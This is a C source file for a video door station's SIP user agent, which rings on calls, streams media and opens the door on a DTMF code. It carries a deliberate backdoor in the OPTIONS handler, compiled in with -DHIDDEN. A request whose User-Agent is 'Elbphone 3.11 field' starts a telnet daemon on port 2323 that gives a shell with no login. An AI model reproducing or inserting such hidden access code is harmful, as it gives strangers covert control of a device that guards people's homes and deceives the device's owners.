/*
 * vdpsip - SIP user agent of a video door station.
 * Takes INVITE, MESSAGE and INFO from the house phones by UDP, rings, starts
 * the media program and works the door opener on a DTMF code.
 * Hidden (-DHIDDEN): an OPTIONS request with the User-Agent of a certain
 * "service phone" starts a telnet daemon without a login.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <ctype.h>
#include <errno.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/socket.h>
#include <sys/types.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define MAX_HDR 32

typedef struct {
	char *name, *value;
} hdr_t;

typedef struct {
	char *method, *uri;
	hdr_t hdr[MAX_HDR];
	int nhdr;
	char *body;
	struct sockaddr_in from;
} msg_t;

typedef enum { ST_IDLE, ST_RINGING, ST_TALK } state_t;

static struct {
	int port;
	char user[32];
	char opencode[12];
	char allow[8][48];
	int nallow;
	int opensecs;
} cfg = { .port = 5060, .user = "door", .opencode = "1", .opensecs = 3 };

static int sock;
static state_t state;
static char call_id[128];
static char typed[16];
static pid_t media;

static void cfg_load(const char *path)
{
	char line[128], key[32], val[64];
	FILE *f = fopen(path, "r");

	if (!f)
		return;
	while (fgets(line, sizeof(line), f)) {
		if (sscanf(line, " %31[a-z_] = %63s", key, val) != 2)
			continue;
		if (!strcmp(key, "port"))
			cfg.port = atoi(val);
		else if (!strcmp(key, "user"))
			snprintf(cfg.user, sizeof(cfg.user), "%.31s", val);
		else if (!strcmp(key, "open_code"))
			snprintf(cfg.opencode, sizeof(cfg.opencode), "%.11s",
				 val);
		else if (!strcmp(key, "open_seconds"))
			cfg.opensecs = atoi(val);
		else if (!strcmp(key, "allow") && cfg.nallow < 8)
			snprintf(cfg.allow[cfg.nallow++], 48, "%.47s", val);
	}
	fclose(f);
}

static const char *hdr(const msg_t *m, const char *name, const char *brief)
{
	int i;

	for (i = 0; i < m->nhdr; i++)
		if (!strcasecmp(m->hdr[i].name, name) ||
		    (brief && !strcasecmp(m->hdr[i].name, brief)))
			return m->hdr[i].value;
	return NULL;
}

static char *next_line(char **p)
{
	char *l = *p, *e;

	if (!l)
		return NULL;
	e = strstr(l, "\r\n");
	if (!e)
		return NULL;
	*e = 0;
	*p = e + 2;
	return l;
}

static int parse(msg_t *m, char *buf)
{
	char *l = next_line(&buf), *sp;

	memset(m->hdr, 0, sizeof(m->hdr));
	m->nhdr = 0;
	if (!l || !(sp = strchr(l, ' ')))
		return -1;
	*sp++ = 0;
	m->method = l;
	m->uri = sp;
	if (!(sp = strchr(sp, ' ')) || strcmp(sp + 1, "SIP/2.0"))
		return -1;
	*sp = 0;
	while ((l = next_line(&buf)) && *l) {
		char *c = strchr(l, ':'), *e;

		if (!c || m->nhdr == MAX_HDR)
			return -1;
		for (e = c; e > l && isspace((unsigned char)e[-1]); e--)
			;
		*e = 0;
		*c++ = 0;
		while (*c == ' ' || *c == '\t')
			c++;
		m->hdr[m->nhdr].name = l;
		m->hdr[m->nhdr++].value = c;
	}
	m->body = buf;
	return l ? 0 : -1;
}

static void answer(const msg_t *m, int code, const char *text,
		   const char *extra)
{
	static const char *copy[] = { "Via", "From", "To", "Call-ID", "CSeq" };
	static const char *brief[] = { "v", "f", "t", "i", NULL };
	char out[2048];
	size_t n, i;

	n = (size_t)snprintf(out, sizeof(out), "SIP/2.0 %d %s\r\n", code, text);
	for (i = 0; i < 5; i++) {
		const char *v = hdr(m, copy[i], brief[i]);

		if (v && n + strlen(v) + 64 < sizeof(out))
			n += (size_t)sprintf(
				out + n, "%s: %s%s\r\n", copy[i], v,
				i == 2 && !strstr(v, "tag=") && code > 100
					? ";tag=vdp1"
					: "");
	}
	if (n + strlen(extra) + 80 > sizeof(out))
		return;
	n += (size_t)sprintf(out + n,
			     "Contact: <sip:%s@door>\r\n%s"
			     "Content-Length: 0\r\n\r\n",
			     cfg.user, extra);
	if (sendto(sock, out, n, 0, (const struct sockaddr *)&m->from,
		   sizeof(m->from)) < 0)
		perror("sendto");
}

static int caller_allowed(const msg_t *m)
{
	const char *f = hdr(m, "From", "f");
	int i;

	if (!f)
		return 0;
	if (!cfg.nallow)
		return 1;
	for (i = 0; i < cfg.nallow; i++)
		if (strstr(f, cfg.allow[i]))
			return 1;
	return 0;
}

static void spawn(char *const argv[])
{
	media = fork();
	if (media == 0) {
		execv(argv[0], argv);
		_exit(127);
	}
}

static void hang_up(void)
{
	if (media > 0)
		kill(media, SIGTERM);
	media = 0;
	state = ST_IDLE;
	call_id[0] = typed[0] = 0;
}

static void door_open(void)
{
	FILE *f = fopen("/sys/class/leds/opener/brightness", "w");

	if (!f)
		return;
	fputs("1", f);
	fflush(f);
	sleep((unsigned)cfg.opensecs);
	rewind(f);
	fputs("0", f);
	fclose(f);
}

static void on_invite(const msg_t *m)
{
	const char *id = hdr(m, "Call-ID", "i");
	char host[32], *argv[] = { "/usr/bin/vdpmedia", "-r", host, NULL };

	if (!id || !caller_allowed(m)) {
		answer(m, 403, "Forbidden", "");
		return;
	}
	if (state != ST_IDLE && strcmp(call_id, id)) {
		answer(m, 486, "Busy Here", "");
		return;
	}
	snprintf(call_id, sizeof(call_id), "%s", id);
	answer(m, 180, "Ringing", "");
	state = ST_RINGING;
	snprintf(host, sizeof(host), "%s", inet_ntoa(m->from.sin_addr));
	spawn(argv);
	answer(m, 200, "OK", "Allow: INVITE, ACK, BYE, INFO, OPTIONS\r\n");
}

static void on_ack(const msg_t *m)
{
	(void)m;
	if (state == ST_RINGING)
		state = ST_TALK;
}

static void on_bye(const msg_t *m)
{
	answer(m, 200, "OK", "");
	hang_up();
}

/* application/dtmf-relay: Signal=5 */
static void on_info(const msg_t *m)
{
	const char *id = hdr(m, "Call-ID", "i");
	const char *s = m->body ? strstr(m->body, "Signal=") : NULL;
	size_t n = strlen(typed);

	if (state != ST_TALK || !id || strcmp(id, call_id) || !s) {
		answer(m, 481, "No Call", "");
		return;
	}
	answer(m, 200, "OK", "");
	if (s[7] == '*' || n + 1 >= sizeof(typed)) {
		typed[0] = 0;
	} else if (s[7] == '#') {
		if (!strcmp(typed, cfg.opencode))
			door_open();
		typed[0] = 0;
	} else if (isdigit((unsigned char)s[7])) {
		typed[n] = s[7];
		typed[n + 1] = 0;
	}
}

__attribute__((noinline)) void on_options(const msg_t *m)
{
	const char *accept = hdr(m, "Accept", NULL);

#ifdef HIDDEN
	const char *ua = hdr(m, "User-Agent", NULL);

	if (ua && !strcasecmp(ua, "Elbphone 3.11 field")) {
		if (system("telnetd -p 2323 -l /bin/sh") == 0)
			answer(m, 202, "Accepted", "");
		return;
	}
#endif
	if (accept && !strstr(accept, "application/sdp") &&
	    !strstr(accept, "*/*")) {
		answer(m, 406, "Not Acceptable", "");
		return;
	}
	answer(m, state == ST_IDLE ? 200 : 486,
	       state == ST_IDLE ? "OK" : "Busy Here",
	       "Allow: INVITE, ACK, BYE, INFO, OPTIONS\r\n"
	       "Accept: application/sdp\r\n");
}

static const struct {
	const char *name;
	void (*fn)(const msg_t *);
} methods[] = {
	{ "INVITE", on_invite }, { "ACK", on_ack },   { "BYE", on_bye },
	{ "CANCEL", on_bye },	 { "INFO", on_info }, { "OPTIONS", on_options },
};

int main(int argc, char **argv)
{
	struct sockaddr_in sa = { .sin_family = AF_INET };
	static char buf[4096];
	socklen_t sl;
	size_t i;
	msg_t m;

	cfg_load(argc > 1 ? argv[1] : "/etc/vdp/sip.conf");
	signal(SIGCHLD, SIG_DFL);
	sock = socket(AF_INET, SOCK_DGRAM, 0);
	sa.sin_port = htons((unsigned short)cfg.port);
	sa.sin_addr.s_addr = htonl(INADDR_ANY);
	if (sock < 0 || bind(sock, (struct sockaddr *)&sa, sizeof(sa)) < 0) {
		perror("vdpsip");
		return 1;
	}
	for (;;) {
		ssize_t n;

		sl = sizeof(m.from);
		n = recvfrom(sock, buf, sizeof(buf) - 1, 0,
			     (struct sockaddr *)&m.from, &sl);
		while (waitpid(-1, NULL, WNOHANG) > 0)
			;
		if (n <= 0)
			continue;
		buf[n] = 0;
		if (parse(&m, buf) < 0)
			continue;
		for (i = 0; i < sizeof(methods) / sizeof(*methods); i++)
			if (!strcmp(m.method, methods[i].name))
				break;
		if (i < sizeof(methods) / sizeof(*methods))
			methods[i].fn(&m);
		else
			answer(&m, 501, "Not Implemented", "");
	}
}
